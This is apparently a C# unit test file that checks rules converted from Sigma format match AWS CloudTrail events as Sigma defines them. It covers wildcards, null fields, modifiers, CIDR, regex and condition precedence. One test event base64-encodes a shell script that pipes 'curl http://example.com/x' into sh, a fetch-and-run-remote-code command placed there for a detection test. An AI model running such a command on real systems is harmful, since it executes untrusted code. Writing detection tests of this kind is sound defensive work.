using DetectionKit.Tests.Shared;
using DetectionKit.Tooling.Importing.Sigma;
using DetectionKit.Tooling.Testing;

namespace DetectionKit.Tooling.Tests.Importing.Sigma;

/// <summary>
/// Converted rules, compiled by the engine, matching events by hand-written cases: case-insensitive
/// text, wildcards and escapes, null and absent fields, each modifier, and the condition's precedence.
/// All of it in one rule set, compiled once.
/// </summary>
public sealed class ConvertedRulesMeanWhatSigmaSays
{
    private static readonly (string Name, string Detection, (bool Expect, string Event)[] Cases)[] Rules =
    [
        ("ignoring-case", "sel: { userIdentity.type: iamuser }\n  condition: sel",
            [(true, """{ "userIdentity": { "type": "IAMUser" } }"""), (false, """{ "userIdentity": { "type": "Root" } }"""), (false, "{}")]),
        ("cased", "sel: { userIdentity.type|cased: iamuser }\n  condition: sel",
            [(true, """{ "userIdentity": { "type": "iamuser" } }"""), (false, """{ "userIdentity": { "type": "IAMUser" } }""")]),
        ("wildcards", "sel: { requestParameters.name: 'prod-*-trail?' }\n  condition: sel",
            [(true, """{ "requestParameters": { "name": "PROD-east-1-trail2" } }"""), (false, """{ "requestParameters": { "name": "prod-east-trail" } }"""), (true, """{ "requestParameters": { "name": "prod--trailX" } }""")]),
        ("escapes", "sel: { requestParameters.name: 'a\\*b\\\\c' }\n  condition: sel",
            [(true, """{ "requestParameters": { "name": "a*b\\c" } }"""), (false, """{ "requestParameters": { "name": "axb\\c" } }""")]),
        ("null", "sel: { errorCode: null }\n  condition: sel",
            [(true, "{}"), (true, """{ "errorCode": null }"""), (false, """{ "errorCode": "AccessDenied" }""")]),
        ("not-exists", "sel: { errorCode|exists: false }\n  condition: sel",
            [(true, "{}"), (false, """{ "errorCode": "AccessDenied" }""")]),
        ("contains-all", "sel:\n    userAgent|contains|all: [aws-cli, Linux]\n  condition: sel",
            [(true, """{ "userAgent": "aws-cli/2.17 Python/3.11 LINUX/6.8" }"""), (false, """{ "userAgent": "aws-cli/2.17 Darwin/23" }""")]),
        ("startswith-endswith", "a: { userIdentity.arn|startswith: 'arn:aws:sts::' }\n  b: { userIdentity.arn|endswith: '/admin' }\n  condition: a and b",
            [(true, """{ "userIdentity": { "arn": "arn:aws:sts::111122223333:assumed-role/ops/ADMIN" } }"""), (false, """{ "userIdentity": { "arn": "arn:aws:iam::111122223333:user/admin" } }""")]),
        ("cidr-other-field", "sel: { requestParameters.ipAddress|cidr: 10.0.0.0/8 }\n  condition: sel",
            [(true, """{ "requestParameters": { "ipAddress": "10.1.2.3" } }"""), (false, """{ "requestParameters": { "ipAddress": "11.1.2.3" } }"""), (false, "{}")]),
        ("cidr-source", "sel: { sourceIPAddress|cidr: ['198.51.100.0/24', '2001:db8::/32'] }\n  condition: sel",
            [(true, """{ "sourceIPAddress": "2001:db8::7" }"""), (false, """{ "sourceIPAddress": "ec2.amazonaws.com" }""")]),
        ("numbers", "sel: { requestParameters.durationSeconds|gt: 3600 }\n  condition: sel",
            [(true, """{ "requestParameters": { "durationSeconds": 43200 } }"""), (false, """{ "requestParameters": { "durationSeconds": 900 } }"""), (false, """{ "requestParameters": { "durationSeconds": "soon" } }""")]),
        ("regex", "a: { userAgent|re: '^Boto3/' }\n  b: { userAgent|re|i: '^terraform/' }\n  condition: a or b",
            [(true, """{ "userAgent": "Boto3/1.34" }"""), (false, """{ "userAgent": "boto3/1.34" }"""), (true, """{ "userAgent": "Terraform/1.9" }""")]),
        ("fieldref", "sel: { userIdentity.userName|fieldref: requestParameters.userName }\n  condition: sel",
            [(true, """{ "userIdentity": { "userName": "Alice" }, "requestParameters": { "userName": "alice" } }"""), (false, """{ "userIdentity": { "userName": "alice" }, "requestParameters": { "userName": "bob" } }"""), (false, "{}")]),
        ("base64", "sel: { requestParameters.userData|base64offset|contains: 'curl http' }\n  condition: sel",
            [(true, """{ "requestParameters": { "userData": "IyEvYmluL3NoCmN1cmwgaHR0cDovL2V4YW1wbGUuY29tL3ggfCBzaA==" } }"""), (false, """{ "requestParameters": { "userData": "IyEvYmluL3NoCmVjaG8gaGk=" } }""")]),
        ("neq", "sel: { eventType|neq: AwsApiCall }\n  condition: sel",
            [(true, """{ "eventType": "AwsConsoleSignIn" }"""), (false, """{ "eventType": "awsapicall" }""")]),
        ("precedence", "a: { awsRegion: us-east-1 }\n  b: { awsRegion: eu-west-1 }\n  c: { readOnly: true }\n  condition: a or b and not c",
            [(true, """{ "awsRegion": "us-east-1", "readOnly": true }"""), (false, """{ "awsRegion": "eu-west-1", "readOnly": true }"""), (true, """{ "awsRegion": "eu-west-1", "readOnly": false }""")]),
        ("object-as-json", "sel: { requestParameters|contains: '\"enable\":false' }\n  condition: sel",
            [(true, """{ "requestParameters": { "detectorId": "d1", "enable": false } }"""), (false, """{ "requestParameters": { "enable": true } }""")]),
    ];

    private static readonly Lazy<TestRun> Run = new(ConvertAndTest);

    public static IEnumerable<string> RuleNames() => Rules.Select(r => r.Name);

    [TestCaseSource(nameof(RuleNames))]
    public void EveryCaseOfTheRuleHoldsAsSigmaDefinesIt(string name)
    {
        var result = Run.Value.Rules.Single(r => r.Rule.Id == "sigma." + name);

        Assert.That(result.RuleFailures, Is.Empty);
        Assert.That(result.Cases.Where(c => !c.Passed).Select(c => $"{c.Name}: {string.Join("; ", c.Failures)}"), Is.Empty);
        Assert.That(result.Cases, Has.Count.EqualTo(Rules.Single(r => r.Name == name).Cases.Length));
    }

    private static TestRun ConvertAndTest()
    {
        var rules = new TempRulesDirectory();
        var sigma = Directory.CreateTempSubdirectory("detectionkit-sigma-").FullName;
        try
        {
            foreach (var (name, detection, cases) in Rules)
            {
                File.WriteAllText(Path.Combine(sigma, name + ".yml"), $"title: \"Sigma {name}\"\nlogsource: {{ product: aws, service: cloudtrail }}\ndetection:\n  {detection}\n");
            }

            var report = SigmaImporter.Import(new SigmaImportOptions(sigma, rules.Root));
            Assert.That(report.Files.Where(f => f.Outcome != SigmaOutcome.Converted).SelectMany(f => f.Diagnostics), Is.Empty);
            foreach (var (name, _, cases) in Rules)
            {
                var yaml = rules.Read($"sigma/{name}.yml").Replace("enabled: false", "enabled: true", StringComparison.Ordinal);
                var tests = string.Concat(cases.Select((c, i) => $"  - name: case {i}\n    expect: {(c.Expect ? "true" : "false")}\n    event: {c.Event}\n"));
                rules.Write($"sigma/{name}.yml", yaml.Replace("tests: []\n", "tests:\n" + tests, StringComparison.Ordinal));
            }

            return new RuleTestRunner(rules.Root).Run(accept: true);
        }
        finally
        {
            Directory.Delete(sigma, recursive: true);
            rules.Dispose();
        }
    }
}
